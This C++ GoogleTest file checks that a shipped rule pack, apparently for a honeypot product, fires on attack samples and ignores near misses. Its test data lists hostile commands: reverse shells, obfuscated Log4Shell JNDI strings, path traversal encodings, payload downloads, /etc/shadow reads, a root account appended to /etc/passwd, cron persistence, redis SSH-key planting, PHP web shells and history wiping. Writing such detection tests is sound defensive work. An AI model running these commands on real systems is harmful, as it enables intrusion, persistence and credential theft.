// Every shipped rule against the texts and payloads that its file says it fires on, or not.
#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "decnet/base/clock.h"
#include "decnet/lifters/holder.h"
#include "decnet/tagging/tagger.h"
#include "tests/rule_pack.h"

namespace decnet::rules {
namespace {

using testing::Contains;
using testing::Not;

std::set<std::string> fired_patterns(const Event& event) {
  std::set<std::string> ids;
  for (const Match& match : test::shipped_pack().rules->match(event)) {
    ids.insert(match.rule->definition.id.text());
  }
  return ids;
}

std::set<std::string> tagged(const Event& event) {
  const tagging::Tagger tagger(test::shipped_pack().rules, system_clock());
  std::set<std::string> ids;
  for (const Tag& tag : tagger.tag(event)) ids.insert(tag.rule_id.text());
  return ids;
}

std::vector<std::string> shipped_ids() {
  std::vector<std::string> ids;
  for (const auto& rule : test::shipped_pack().rules->rules()) {
    ids.push_back(rule->definition.id.text());
  }
  return ids;
}

class ShippedRule : public testing::TestWithParam<std::string> {
 protected:
  void SetUp() override {
    rule_ = test::shipped_pack().rules->find(RuleId(GetParam()));
    ASSERT_NE(rule_, nullptr);
  }
  [[nodiscard]] const Definition& definition() const { return rule_->definition; }
  [[nodiscard]] std::set<std::string> fired(const Json& sample) const {
    const Event event = test::sample_event(*rule_, sample);
    return definition().is_pattern_rule() ? fired_patterns(event) : tagged(event);
  }

  const Rule* rule_ = nullptr;
};

TEST_P(ShippedRule, HasSamples) {
  EXPECT_FALSE(definition().samples.fires.empty());
  EXPECT_FALSE(definition().samples.silent.empty());
}

TEST_P(ShippedRule, HasSomebodyWhoEvaluatesIt) {
  EXPECT_NE(lifters::holder(definition()), nullptr);
}

TEST_P(ShippedRule, FiresOnItsSamples) {
  for (const Json& sample : definition().samples.fires) {
    EXPECT_THAT(fired(sample), Contains(definition().id.text())) << sample.dump();
  }
}

TEST_P(ShippedRule, IsSilentOnNearMisses) {
  for (const Json& sample : definition().samples.silent) {
    EXPECT_THAT(fired(sample), Not(Contains(definition().id.text()))) << sample.dump();
  }
}

INSTANTIATE_TEST_SUITE_P(Pack, ShippedRule, testing::ValuesIn(shipped_ids()),
                         [](const testing::TestParamInfo<std::string>& tested) {
                           std::string name = tested.param;
                           std::replace(name.begin(), name.end(), '-', '_');
                           return name;
                         });

struct Wanted {
  int rule;
  std::vector<std::string> fires;
  std::vector<std::string> silent;
};

std::string id_of(const testing::TestParamInfo<Wanted>& info) {
  return fmt::format("R{:04}", info.param.rule);
}

// What was agreed that each rule must say, in words of its own field. The rules' files hold these
// and more; here they cannot be edited away together with a rule.
class AgreedExamples : public testing::TestWithParam<Wanted> {};

TEST_P(AgreedExamples, Hold) {
  const std::string id = fmt::format("R{:04}", GetParam().rule);
  const Rule* rule = test::shipped_pack().rules->find(RuleId(id));
  ASSERT_NE(rule, nullptr);
  for (const auto& text : GetParam().fires) {
    EXPECT_THAT(fired_patterns(test::sample_event(*rule, text)), Contains(id)) << text;
  }
  for (const auto& text : GetParam().silent) {
    EXPECT_THAT(fired_patterns(test::sample_event(*rule, text)), Not(Contains(id))) << text;
  }
}

INSTANTIATE_TEST_SUITE_P(
    Pack, AgreedExamples,
    testing::ValuesIn(std::vector<Wanted>{
        {7, {"Acunetix-Scanner", "x WPSCAN/3.8 y"}, {"Mozilla/5.0 Firefox", "sqlmapper/1"}},
        {8,
         {"/q=${jndi:rmi://a.example/x}", "/${jndi:dns://b.example}"},
         {"/q=${env:HOME}", "/jndi:ldap://c"}},
        {9, {"/dl?f=../../boot.ini", "/%2E%2E%2f%2e%2e/etc"}, {"/a/../b", "/v..2/"}},
        {10,
         {"bash -i >& /dev/udp/192.0.2.9/53 0>&1", "nc -e /bin/bash 192.0.2.9 443"},
         {"bash run.sh", "nc 192.0.2.9 80"}},
        {11, {"perl -e print", R"(ruby -e "puts 1")"}, {"python setup.py", "perl x.pl"}},
        {12,
         {"wget -q -c http://192.0.2.5/a.bin", "cd /tmp && curl -sk https://d.example/p"},
         {"curl --version", "wget --help"}},
        {13,
         {"tail -n 3 /etc/passwd", "grep -c sh /etc/passwd"},
         {"ls -l /etc/passwd", "cat /etc/passwords"}},
        {14,
         {"head /etc/shadow", "sudo cat /etc/shadow"},
         {"stat /etc/shadow", "cat /etc/gshadow"}},
        {15,
         {"find /usr -type f -perm -4000 -ls", "find / -perm -u=s"},
         {"find / -perm 644", "find / -name suid"}},
        {16, {"find /etc -type f", R"(find / -iname "*.bak")"}, {"find ./src", "find /srv/data"}},
        {17,
         {"masscan -p22 198.51.100.0/24", "nc -vz 192.0.2.7 80"},
         {"nc -l 9000", "ping 192.0.2.7"}},
        {18, {"uname -mrs", "cat /etc/debian_version"}, {"uname", "cat /etc/hostname"}},
        {19, {"whoami", "sudo id -g"}, {"echo whoami", "identify x.png"}},
        {20, {"ip addr show", "arp -n"}, {"ip netns", "zip addr"}},
        {21, {"netstat -tlnp", "lsof -i tcp:80"}, {"netstat", "lsof /tmp"}},
        {22, {"LDAPSEARCH -H ldap://d", "./SharpHound.exe -c All"}, {"ldapmodify -x", "bloodhunt"}},
        {23,
         {"smbclient -L //192.0.2.3", "rpcclient -N h -c enumdomusers"},
         {"smbclient //h/share", "rpcclient -N h -c srvinfo"}},
        {24,
         {"useradd -m sysd", R"(echo "z:x:0:0::/:/bin/sh" >> /etc/passwd)"},
         {"userdel bob", "cat /etc/passwd"}},
        {25,
         {"crontab -e", R"(echo "@reboot /x" > /etc/cron.d/job)"},
         {"crontab -l", "ls /etc/cron.d"}},
        {26,
         {"redis-cli -h 192.0.2.1 CONFIG SET dir /root/.ssh/",
          R"(redis-cli set k "ssh-ed25519 AAAA")"},
         {"redis-cli ping", "redis-cli get k"}},
        {27,
         {R"(printf "<?php eval($_POST[1])?>" > up.php)", "cat a > /var/www/html/s.jsp"},
         {"echo hi > a.txt", "php -v"}},
        {28, {"history -c", "echo -n > ~/.bash_history"}, {"history 20", "cat ~/.bash_history"}},
        {29, {"sudo -l", "sudo su - root"}, {"sudo apt update", "echo sudo -l"}},
    }),
    id_of);

// Commands that slipped through earlier packs.
INSTANTIATE_TEST_SUITE_P(
    Recall, AgreedExamples,
    testing::ValuesIn(std::vector<Wanted>{
        {8,
         {"/?a=${JNDI:LDAP://a.example/x}", "/?a=%24%7Bjndi%3Armi%3A%2F%2Fa.example%2Fx%7D",
          "/?a=${${lower:${lower:j}}ndi:${::-d}ns://a.example}"},
         {}},
        {9, {"/%252e%252e%252f%252e%252e%252fx", R"(/..\..\x)", "/%2e.%5c..%255cx"}, {"/..%5cx"}},
        {10,
         {"sh -c id", "bash -c 'id; w'", "ncat -e /bin/sh 192.0.2.9 53", "nc 192.0.2.9 53 -e sh"},
         {}},
        {11,
         {"php -r 'echo 1;'", "perl -MIO -e 'print 1'", "python3.11 -c 'print(1)'"},
         {"perl -MIO x.pl"}},
        {12,
         {"wget 192.0.2.5/x", "tftp -g -r x 192.0.2.5", "ftpget 192.0.2.5 x x",
          "scp bob@192.0.2.5:x /tmp"},
         {"scp x bob@192.0.2.5:/tmp"}},
        {15, {"find / -perm -u+s", "find / -perm /6000"}, {}},
        {16, {"find -L / -name x"}, {"find -L ./x"}},
        {17, {"nc -w1 -zv 192.0.2.7 22"}, {"nc -w1 -v 192.0.2.7 22"}},
        {18, {"lsb_release -a"}, {}},
        {19, {"cd /; whoami", "true && id", "date | w", "  whoami"}, {"cd whoami; ls id"}},
        {20, {}, {"route", "arp"}},
        {21, {}, {"netstat", "ss"}},
        {23, {"smbclient -N -L 192.0.2.3"}, {}},
        {24, {"useradd -m -s /bin/bash x"}, {}},
        {25,
         {"echo x >> /etc/crontab", "echo x | crontab -", "crontab jobs.txt"},
         {"crontab -l | cat -"}},
        {27,
         {R"(echo '<?php $x=1; system($_GET["x"]); ?>' > x.php)",
          "wget -O /var/www/html/x.php 192.0.2.5/x"},
         {}},
        {28,
         {"rm ~/.bash_history", "> /root/.bash_history", "HISTSIZE=0", "export HISTSIZE=0"},
         {"HISTSIZE=01"}},
        {29, {"cd /; sudo -l", "id && sudo su", "  sudo -i", "echo x | sudo -s"}, {}},
    }),
    id_of);

}  // namespace
}  // namespace decnet::rules
